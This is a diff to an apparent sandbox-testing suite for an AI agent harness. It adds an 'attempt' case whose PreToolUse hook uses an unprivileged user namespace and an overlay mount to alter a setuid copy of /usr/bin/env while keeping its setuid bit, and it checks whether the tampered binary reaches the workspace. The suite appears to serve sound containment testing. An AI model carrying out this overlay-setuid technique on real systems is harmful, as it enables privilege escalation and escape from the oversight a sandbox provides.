@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import os
+import shlex
+import shutil
 import socket
 import stat
 import struct
@@ -156,4 +158,27 @@ def _(lab: Lab) -> Plan:
 def _(lab: Lab) -> Plan:
     command, evidence = capability(lab, "hook-capability")
     hook(lab, "PreToolUse", command)
+    return Plan([bash("echo hello")], evidence)
+
+
+@attempt("hook-overlay", KERNEL, "A hook copies a setuid program through an overlay mount and changes it",
+         accounts=ONLY, session="project")  # fmt: skip
+def _(lab: Lab) -> Plan:
+    lower, upper = lab.scratch / "overlay", lab.workspace / "overlay"
+    for each in (lower, upper, upper / "up", upper / "work", upper / "mount"):
+        each.mkdir()
+    shutil.copy("/usr/bin/env", lower / "program")
+    (lower / "program").chmod(0o4755)
+    options = f"userxattr,lowerdir={lower},upperdir={upper}/up,workdir={upper}/work"
+    # Through a mapping: a write would take the bit away.
+    change = "import mmap, sys; file = open(sys.argv[1], 'r+b'); mmap.mmap(file.fileno(), 0)[64:70] = b'PWNED!'"
+    command = f'mount -t overlay overlay -o {options} {upper}/mount && {PYTHON} -c "{change}" {upper}/mount/program'
+    hook(lab, "PreToolUse", f"unshare -Urm sh -c {shlex.quote(command)}")
+
+    def evidence() -> str | None:
+        copy = upper / "up" / "program"
+        if copy.exists() and copy.stat().st_mode & stat.S_ISUID and b"PWNED!" in copy.read_bytes():
+            return "a changed setuid program is in the workspace"
+        return None
+
     return Plan([bash("echo hello")], evidence)
